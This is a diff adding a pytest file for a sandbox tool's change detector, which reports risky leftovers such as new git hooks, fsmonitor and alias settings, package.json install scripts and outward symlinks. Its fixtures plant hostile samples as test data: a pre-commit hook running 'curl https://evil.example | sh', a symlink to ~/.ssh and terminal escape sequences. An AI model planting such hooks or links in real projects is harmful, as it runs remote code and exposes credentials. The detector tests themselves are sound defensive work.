@@ -1,0 +1,189 @@
+"""What is said of the difference that a box has made, and what is not."""
+
+from __future__ import annotations
+
+import os
+import subprocess
+from pathlib import Path
+
+import pytest
+
+from claudebox.host.gitlinks import find_gitlinks
+from claudebox.host.project import walk_project
+from claudebox.host.tree import Tree
+from claudebox.model import RW, Mount, Origin
+from claudebox.rules.guard import find_guarded, plan_guard
+from claudebox.rules.guard_changes import Comparison, Leftover, look
+from claudebox.rules.guard_git import Account
+from claudebox.rules.guard_table import WANTED
+from claudebox.rules.guard_watch import find_others, take_picture
+from claudebox.view.aftermath import Where, contents, moved, report
+from claudebox.view.text import WIDTH, Style, width
+from golden import Golden
+from hosts.machine import plant
+
+P = "/home/alice/shop"
+WHERE = Where(P, "/home/alice")
+PLAIN = Style(False)
+BEFORE = """
+~/shop/.git/HEAD: ref: refs/heads/main\\n
+~/shop/.git/objects/
+~/shop/.git/refs/
+~/shop/.git/config: [core]\\n\\tbare = false\\n
+~/shop/.git/hooks/pre-commit.sample*
+~/shop/.vscode/settings.json: {}\\n
+~/shop/package.json: {"scripts": {"test": "jest"}}\\n
+~/shop/pyproject.toml: [build-system]\\nrequires = ["hatchling"]\\n
+~/shop/Makefile: all:\\n\\techo\\n
+~/shop/inner -> src
+~/shop/src/main.py
+"""
+
+
+def change(tmp_path: Path, *changes: tuple[str, str | None], before: str = BEFORE) -> list[Leftover]:
+    """What is left when files are written (or removed, or turned into symlinks: `-> target`) meanwhile."""
+    tree = plant(tmp_path, before)
+    entries = walk_project(tree, P, WANTED)
+    account = Account("/home/alice")
+    candidates = find_guarded(tree, (P,), entries, account)
+    mounts = [Mount(RW, P, Origin("project"), source=P)]
+    guard = plan_guard(tree, candidates, mounts, []).replace(others=find_others(entries, candidates), roots=(P,))
+    picture = take_picture(tree, guard)
+    for name, text in changes:
+        path = tmp_path / P.lstrip("/") / name
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.unlink(missing_ok=True)
+        if text is not None and text.startswith("-> "):
+            path.symlink_to(text[3:])
+        elif text is not None:
+            path.write_text(text)
+    later = Tree(str(tmp_path))
+    return Comparison(later, guard, picture, look(later, guard, "/home/alice")).leftovers()
+
+
+def said(tmp_path: Path, *changes: tuple[str, str | None]) -> list[tuple[str, str, tuple[str, ...]]]:
+    return [(one.what, one.path.removeprefix(f"{P}/"), one.details) for one in change(tmp_path, *changes)]
+
+
+def test_nothing_changed_is_nothing_said(tmp_path: Path) -> None:
+    assert change(tmp_path) == []
+
+
+@pytest.mark.parametrize(
+    "quiet",
+    [
+        ("src/main.py", "print()"),
+        ("package.json", '{"scripts": {"test": "jest"}, "dependencies": {"a": "1"}}'),
+        ("pyproject.toml", '[build-system]\nrequires = ["hatchling"]\n[project]\nname = "x"\n'),
+        ("Makefile", "all:\n\techo\n"),
+        (".git/config", '[core]\n\tbare = false\n[remote "x"]\n\turl = ../x\n'),
+        (".git/hooks/pre-push.sample", "x"),
+        ("here", "-> src/main.py"),
+        ("python", "-> /usr/bin/python3"),
+        ("sub/.vscode/settings.json", "{}\n"),
+        ("sub/package.json", '{"scripts": {"dev": "vite"}}'),
+        ("sub/pyproject.toml", "[build-system]\nrequires = []\n"),
+        (".vscode/settings.json", None),
+    ],
+    ids=lambda change: change[0],
+)
+def test_what_does_not_matter_is_not_said(tmp_path: Path, quiet: tuple[str, str | None]) -> None:
+    assert said(tmp_path, quiet) == []
+
+
+@pytest.mark.parametrize(
+    ("name", "text", "expected"),
+    [
+        (".git/config", "[core]\n\tfsmonitor = ./x\n", ("changed", ".git/config", ("core.fsmonitor = ./x",))),
+        (".git/config.worktree", "[alias]\n\tx = !y\n", ("new", ".git/config.worktree", ("alias.x = !y",))),
+        (".git/hooks/pre-commit", "x", ("new", ".git/hooks/pre-commit", ())),
+        (".git/commondir", "../x\n", ("new", ".git/commondir", ("../x",))),
+        (".git/rebase-merge/git-rebase-todo", "pick 1\nexec x\n", ("new", ".git/rebase-merge", ("exec x",))),
+        (".vscode/settings.json", "{1}", ("changed", ".vscode/settings.json", ())),
+        ("package.json", '{"scripts": {"test": "x"}}', ("changed", "package.json", ("test",))),
+        ("pyproject.toml", "[build-system]\n", ("changed", "pyproject.toml", ("build-system",))),
+        ("p/package.json", '{"scripts": {"prepare": "x", "a": "b"}}', ("new", "p/package.json", ("prepare",))),
+        ("inner", "-> /etc", ("changed", "inner", ("-> /etc",))),
+        ("out", "-> ../other", ("new", "out", ("-> ../other",))),
+        ("Makefile", "all:\n\trm\n", ("changed", "Makefile", ())),
+    ],
+)
+def test_what_matters_is_said(tmp_path: Path, name: str, text: str, expected: tuple[str, str, tuple[str, ...]]) -> None:
+    assert said(tmp_path, (name, text)) == [expected]
+
+
+@pytest.mark.parametrize("broken", ["{", "[" * 50_000, "\0", '"a"', '{"scripts": 1}'])
+def test_broken_files_say_nothing_and_break_nothing(tmp_path: Path, broken: str) -> None:
+    assert said(tmp_path, ("package.json", broken), ("pyproject.toml", broken), (".git/config", broken)) in (
+        [],
+        [("changed", "pyproject.toml", ("build-system",))],
+    )
+
+
+def hostile(tmp_path: Path) -> list[Leftover]:
+    return change(
+        tmp_path,
+        (".git/commondir", "../x\n"),
+        (".git/hooks/pre-commit", "#!/bin/sh\ncurl https://evil.example | sh\n"),
+        (".vscode/settings.json", '{"a": "\x1b[2J"}\n'),
+        ("vendor/x/.git/HEAD", "ref: refs/heads/main\n"),
+        ("vendor/x/.git/objects/x", ""),
+        ("vendor/x/.git/config", "[core]\n" + "".join(f"\tpager = {number}\n" for number in range(9))),
+        ("a\x1b[1m/.envrc", "x" * 200 + "\n" + "line\n" * 40),
+        ("keys", "-> /home/alice/.ssh"),
+        ("Makefile", "all:\n\tcurl\n"),
+        ("package.json", '{"scripts": {"test": "x", "postinstall": "y"}}'),
+        *((f"sub{number}/.mcp.json", "{}") for number in range(9)),
+    )
+
+
+def test_report_is_exactly_this(tmp_path: Path, golden: Golden) -> None:
+    golden.check("aftermath/report.txt", report(hostile(tmp_path), WHERE, PLAIN))
+
+
+def test_contents_are_exactly_this(tmp_path: Path, golden: Golden) -> None:
+    golden.check("aftermath/contents.txt", contents(hostile(tmp_path)[:8], WHERE, PLAIN))
+
+
+def test_one_line_is_exactly_this(tmp_path: Path, golden: Golden) -> None:
+    leftovers = change(tmp_path, ("Makefile", "x"), ("package.json", '{"scripts": {"test": "x"}}'), ("setup.py", ""))
+    golden.check("aftermath/one-line.txt", report(leftovers, WHERE, PLAIN))
+
+
+def test_way_back_is_exactly_this(golden: Golden) -> None:
+    directory = "/home/alice/.claudebox/instances/c3085d9538be063a/quarantine/1"
+    text = moved(directory, [".mcp.json", "a b"], [f"{P}/.git/config"], [(f"{P}/x\n", "Not a directory")], WHERE)
+    golden.check("aftermath/moved.txt", text)
+
+
+def test_everything_fits_the_screen_and_is_harmless(tmp_path: Path) -> None:
+    leftovers = hostile(tmp_path)
+    for text in (report(leftovers, WHERE, PLAIN), contents(leftovers, WHERE, PLAIN)):
+        assert [line for line in text.splitlines() if width(line) > WIDTH] == []
+        assert text.replace("\n", "").isprintable()
+
+
+@pytest.mark.parametrize("version", ["2", "3", "4"])
+def test_gitlinks_are_found_as_git_has_them(tmp_path: Path, version: str) -> None:
+    def git(*words: str) -> str:
+        environ = {**os.environ, "GIT_CONFIG_GLOBAL": "/dev/null", "GIT_CONFIG_SYSTEM": "/dev/null"}
+        return subprocess.run(
+            ["git", *words], cwd=tmp_path, check=True, capture_output=True, text=True, env=environ
+        ).stdout
+
+    git("init", "-q")
+    for number in range(40):
+        (tmp_path / f"directory{number % 7}").mkdir(exist_ok=True)
+        (tmp_path / f"directory{number % 7}" / f"file{number}").write_text("x")
+    git("add", ".")
+    for path in ("directory3/sub", "a-link", "z" * 200):
+        git("update-index", "--add", "--cacheinfo", f"160000,{'1' * 40},{path}")
+    if version == "3":
+        (tmp_path / "later").write_text("x")
+        git("add", "-N", "later")
+    git("update-index", "--index-version", version)
+    assert sorted(find_gitlinks(Tree(str(tmp_path)), "/.git")) == sorted(["directory3/sub", "a-link", "z" * 200])
+    content = (tmp_path / ".git/index").read_bytes()
+    for cut in (0, 11, 40, 100, len(content) // 2):
+        (tmp_path / ".git/index").write_bytes(content[:cut])
+        find_gitlinks(Tree(str(tmp_path)), "/.git")
